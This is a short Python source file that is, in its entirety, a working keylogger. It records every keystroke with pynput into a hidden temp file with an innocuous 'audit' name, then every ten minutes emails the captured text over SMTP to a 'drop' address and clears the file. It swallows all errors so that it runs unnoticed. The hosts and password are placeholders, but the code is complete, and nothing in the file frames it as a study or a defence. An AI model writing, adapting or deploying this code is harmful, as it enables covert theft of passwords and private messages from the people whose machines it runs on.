import os
import smtplib
import tempfile
import threading
from email.message import EmailMessage

LOG = os.path.join(tempfile.gettempdir(), ".kbd_audit.log")


def _on_press(key):
    try:
        ch = key.char
    except AttributeError:
        ch = "[%s]" % str(key).replace("Key.", "")
    with open(LOG, "a", encoding="utf-8") as fh:
        fh.write(ch or "")


def _mail():
    try:
        if os.path.getsize(LOG) > 0:
            msg = EmailMessage()
            msg["Subject"] = "log %s" % os.environ.get("COMPUTERNAME", os.uname().nodename if hasattr(os, "uname") else "")
            msg["From"] = "logger@mail.example.invalid"
            msg["To"] = "drop@mail.example.invalid"
            with open(LOG, encoding="utf-8") as fh:
                msg.set_content(fh.read())
            with smtplib.SMTP_SSL("smtp.example.invalid", 465, timeout=15) as s:
                s.login("logger@mail.example.invalid", "FAKE-PLACEHOLDER-PASSWORD")
                s.send_message(msg)
            open(LOG, "w").close()
    except Exception:
        pass
    t = threading.Timer(600, _mail)
    t.daemon = True
    t.start()


def start():
    try:
        from pynput import keyboard

        keyboard.Listener(on_press=_on_press, daemon=True).start()
        _mail()
    except Exception:
        pass
